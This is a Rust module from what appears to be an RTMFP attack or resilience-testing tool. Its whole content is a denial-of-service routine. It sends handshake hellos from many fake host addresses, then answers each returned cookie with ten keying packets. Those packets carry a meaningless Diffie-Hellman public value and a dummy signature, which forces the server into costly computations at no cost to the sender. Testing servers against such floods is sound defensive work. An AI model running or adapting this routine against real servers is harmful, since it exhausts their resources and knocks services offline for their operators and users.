//! Keyings with valid cookies of as many hosts as can be had, each of which the server is to compute.

use super::line::Line;
use super::packets::{open_default, startup};
use super::{Attack, Setting};
use rtmfp::driver::os_random;
use rtmfp::proto::crypto::{Epd, Identity, IdentityConfig};
use rtmfp::wire::chunk::{InitiatorHello, InitiatorKeying};
use rtmfp::wire::packet::chunks;
use rtmfp::wire::{Chunk, PacketHeader};

/// Hosts that say hello in a burst.
const HOSTS: u32 = 16;
/// Keyings by one cookie: more than one is good for.
const BY_COOKIE: u32 = 10;
/// The first of these hosts: others are those of sessions.
const FIRST: u32 = 1 << 20;

pub(super) struct Keyings {
    hello: Vec<u8>,
    identity: Identity,
    host: u32,
    number: u32,
}

impl Keyings {
    pub(super) fn new(setting: &Setting) -> Self {
        let epd = Epd::for_uri(&setting.uri.to_string());
        let hello = InitiatorHello { epd: epd.as_bytes(), tag: &[1; 16] };
        Self {
            hello: startup(0, &Chunk::InitiatorHello(hello)),
            identity: Identity::generate(&IdentityConfig::default(), &mut *os_random()),
            host: FIRST,
            number: 0,
        }
    }
}

/// A keying that asks for a computation of group 2 and costs none.
fn keying(identity: &Identity, number: u32, cookie: &[u8]) -> Vec<u8> {
    // An ephemeral key: a length, a type, a group, and a public value that nobody has the secret of.
    let mut component = vec![0x81, 0x02, 0x0d, 0x02];
    component.resize(4 + 128, 0x55);
    component[5..9].copy_from_slice(&number.to_be_bytes());
    let keying = InitiatorKeying {
        session_id: number,
        cookie,
        certificate: identity.certificate().as_bytes(),
        component: &component,
        signature: b"X",
    };
    startup(0, &Chunk::InitiatorKeying(keying))
}

impl Attack for Keyings {
    fn burst(&mut self, line: &mut Line) -> anyhow::Result<()> {
        for _ in 0..HOSTS {
            self.host += 1;
            line.send(Line::host(self.host), &self.hello);
        }
        let Self { identity, number, .. } = self;
        line.receive(|to, datagram, answers| {
            let Some(plain) = open_default(datagram) else { return };
            let Ok((_, rest)) = PacketHeader::parse(&plain) else { return };
            if let Some(Chunk::ResponderHello(hello)) = chunks(rest).next() {
                for _ in 0..BY_COOKIE {
                    *number = number.wrapping_add(1).max(1);
                    answers.push((to, keying(identity, *number, hello.cookie)));
                }
            }
        })?;
        Ok(())
    }
}
